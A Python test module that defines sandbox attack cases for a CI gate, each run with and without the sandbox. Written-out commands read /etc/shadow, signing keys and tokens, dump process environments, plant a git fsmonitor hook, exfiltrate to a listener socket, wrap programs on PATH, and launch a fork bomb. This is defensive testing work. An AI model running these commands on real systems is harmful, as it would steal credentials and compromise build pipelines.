"""Attacks by code of the change that runs in a gate: what it reads, writes, reaches, uses up and leaves behind.

Undefended is the same command with the operator's `[sandbox] kind = "none"`, so what stops it is the sandbox and nothing else.
"""

import contextlib
import fcntl
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

from forge_dagster.domain.settings import SandboxSettings
from forge_dagster.evidence.keyring import FolderKeyring
from forge_dagster.ports import Command, ProcessResult
from forge_dagster.workspace.processes import ProcessRun
from tests.attacks.attack import Attack
from tests.support.waiting import wait_until

_WORD = "what nobody is to see"
_MEMORY_MIB, _PROCESSES = 128, 40
_LIMITS = {"memory_mib": _MEMORY_MIB, "processes": _PROCESSES}
_OPEN = SandboxSettings(kind="none")

Play = Callable[[Path, SandboxSettings], bool]


def _run(folder: Path, settings: SandboxSettings, *argv: str, **more: object) -> ProcessResult:
    """Run a command of the change in its tree, as a gate would."""
    tree = folder / "tree"
    tree.mkdir(exist_ok=True)
    run = ProcessRun(home=folder / "home", run_id="attack", sandbox=settings)
    return run.run(Command(argv=argv, cwd=tree, timeout_s=60.0, **more))  # type: ignore[arg-type]


def _sh(folder: Path, settings: SandboxSettings, script: str, **more: object) -> ProcessResult:
    return _run(folder, settings, "/bin/sh", "-c", script, **more)


def _planted(path: Path) -> Path:
    path.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
    path.write_text(_WORD)
    path.chmod(0o600)
    return path


def _attack(name: str, published: str, play: Play) -> Attack:
    return Attack(
        name=f"sandbox/{name}",
        published=published,
        undefended=lambda folder: play(folder, _OPEN),
        defended=lambda folder: play(folder, SandboxSettings.model_validate(_LIMITS)),
    )


def _read_shadow(folder: Path, settings: SandboxSettings) -> bool:
    return b"root:" in _sh(folder, settings, "cat /etc/shadow").stdout


def _read_key(folder: Path, settings: SandboxSettings) -> bool:
    key, _ = FolderKeyring(folder / "home/keys").create()
    return b"PRIVATE KEY" in _sh(folder, settings, f"cat {folder}/home/keys/{key}.key").stdout


def _read_token(folder: Path, settings: SandboxSettings) -> bool:
    token = _planted(folder / "home/secrets/forge-token")
    return _WORD.encode() in _sh(folder, settings, f"cat {token}").stdout


def _read_through_link(folder: Path, settings: SandboxSettings) -> bool:
    key = _planted(folder / "home/secrets/forge-token")
    (folder / "tree").mkdir()
    (folder / "tree/README.md").symlink_to(key)
    return _WORD.encode() in _sh(folder, settings, "cat README.md").stdout


@contextlib.contextmanager
def _listener(make: Callable[[], socket.socket]) -> Iterator[list[bytes]]:
    """What arrives at a socket of the attacker's."""
    arrived: list[bytes] = []

    def accept(server: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = server.accept()
                with connection:
                    arrived.append(connection.recv(100))

    with make() as server:
        thread = threading.Thread(target=accept, args=(server,), daemon=True)
        thread.start()
        try:
            yield arrived
        finally:
            server.shutdown(socket.SHUT_RDWR)
            thread.join(10)


def _exfiltrate(folder: Path, settings: SandboxSettings) -> bool:
    server = socket.create_server(("127.0.0.1", 0))
    script = f"import socket; socket.create_connection(('127.0.0.1', {server.getsockname()[1]}), 5).sendall(b'source')"
    with _listener(lambda: server) as arrived:
        _run(folder, settings, sys.executable, "-c", script)
    return arrived == [b"source"]


def _docker_socket(folder: Path, settings: SandboxSettings) -> bool:
    path = folder / "docker.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    script = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({str(path)!r}); s.sendall(b'run --privileged')"
    with _listener(lambda: server) as arrived:
        _run(folder, settings, sys.executable, "-c", script)
    return arrived == [b"run --privileged"]


def _write(place: str) -> Play:
    def play(folder: Path, settings: SandboxSettings) -> bool:
        target = _planted(folder / place)
        own = folder / "home/cache/change/mine"
        own.mkdir(parents=True)
        _sh(folder, settings, f"echo poisoned > {target}; echo x > {own}/made", writes=(own,))
        assert (own / "made").exists()
        return target.read_text() == "poisoned\n"

    return play


def _wrap_program(folder: Path, settings: SandboxSettings) -> bool:
    """A test replaces the linter in the environment that the next gate runs it from."""
    environment = folder / "home/environments/change/python-1"
    (environment / "bin").mkdir(parents=True)
    (environment / "bin/linter").write_text("#!/bin/sh\nexit 1\n")
    (environment / "bin/linter").chmod(0o755)
    variables = {"PATH": f"{environment / 'bin'}:/usr/bin:/bin"}
    wrap = "printf '#!/bin/sh\\nexit 0\\n' > $(command -v linter)"
    _sh(folder, settings, wrap, environment=variables, reads=(environment,))
    return _run(folder, settings, "linter", environment=variables, reads=(environment,)).exit_code == 0


def _leave_daemon(folder: Path, settings: SandboxSettings) -> bool:
    holder = "exec 9>held; flock 9; echo $$ > begun; exec sleep 60"
    daemon = f"env -i setsid sh -c '{holder}' >/dev/null 2>&1 & while [ ! -s begun ]; do sleep 0.05; done"
    _sh(folder, settings, daemon)
    with (folder / "tree/held").open("w") as lock:
        if settings.kind != "none":
            wait_until(lambda: _taken(lock.fileno()))
            return False
        lives = not _taken(lock.fileno())
    os.kill(int((folder / "tree/begun").read_text()), 9)
    return lives


def _taken(descriptor: int) -> bool:
    """Whether the lock could be taken, so that nobody holds it."""
    try:
        fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        return False
    return True


def _fork_bomb(folder: Path, settings: SandboxSettings) -> bool:
    script = (
        "import os, signal\npids = []\ntry:\n    for n in range(100):\n        pid = os.fork()\n"
        "        if pid == 0:\n            signal.pause()\n        pids.append(pid)\nexcept OSError:\n    pass\n"
        "print(len(pids))\nfor pid in pids:\n    os.kill(pid, 9)\n"
    )
    return _run(folder, settings, sys.executable, "-c", script).stdout.strip() == b"100"


def _memory_hog(folder: Path, settings: SandboxSettings) -> bool:
    return (
        b"held"
        in _run(folder, settings, sys.executable, "-c", f"x = bytearray({_MEMORY_MIB * 2} * 2**20); print('held')").stdout
    )


def _dump_environment(folder: Path, settings: SandboxSettings) -> bool:
    """An install script writes down what the pipeline's environment holds."""
    script = "env > dumped; tr '\\0' '\\n' < /proc/$PPID/environ >> dumped; cat /proc/[0-9]*/environ >> dumped; exit 0"
    os.environ["FORGE_TEST_TOKEN"] = _WORD
    try:
        if settings.kind == "none":
            (folder / "tree").mkdir()
            subprocess.run(["/bin/sh", "-c", script], cwd=folder / "tree", check=False, capture_output=True)
        else:
            _sh(folder, settings, script, network=True)
    finally:
        del os.environ["FORGE_TEST_TOKEN"]
    return _WORD in (folder / "tree/dumped").read_text(errors="replace")


def _plant_hook(folder: Path, settings: SandboxSettings) -> bool:
    """Code of the change leaves a command in the repository, for the next git that somebody runs there."""
    tree = folder / "tree"
    subprocess.run(["git", "init", "-q", str(tree)], check=True)
    _sh(folder, settings, "git config core.fsmonitor 'touch owned;:'")
    subprocess.run(["git", "-C", str(tree), "status"], check=False, capture_output=True)
    return (tree / "owned").exists()


ATTACKS = (
    *([_attack("read /etc/shadow", "self-hosted runners as root", _read_shadow)] if os.geteuid() == 0 else []),
    _attack("read the signing key", "SLSA v1, build L3: keys out of the build's reach", _read_key),
    _attack("read Forge's token for the host", "GitHub, 'Security hardening': tokens of the runner", _read_token),
    _attack("symlink out of the tree", "cicd-goat; GitHub Actions artifact symlinks", _read_through_link),
    _attack("exfiltrate by network", "tj-actions/changed-files, 2025", _exfiltrate),
    _attack("reach the docker socket", "runners with a mounted docker.sock", _docker_socket),
    _attack(
        "write another repository's cache", "SLSA v1, build L3: isolated builds", _write("home/cache/change/other/answers")
    ),
    _attack("poison what a release reads", "TanStack, 2026-05: caches of PR runs", _write("home/cache/uv-release/wheel")),
    _attack("rewrite the ledger", "an unlimited runner's home", _write("home/ledger.db")),
    _attack("wrap a program on PATH", "cicd-goat; PATH wrappers", _wrap_program),
    _attack("plant a command in .git", "CVE-2022-24765 and its kin", _plant_hook),
    _attack("dump the environment", "install scripts of npm and PyPI malware", _dump_environment),
    _attack("leave a daemon", "self-hosted runners that are reused", _leave_daemon),
    _attack("fork bomb", "", _fork_bomb),
    _attack("take all memory", "", _memory_hog),
)
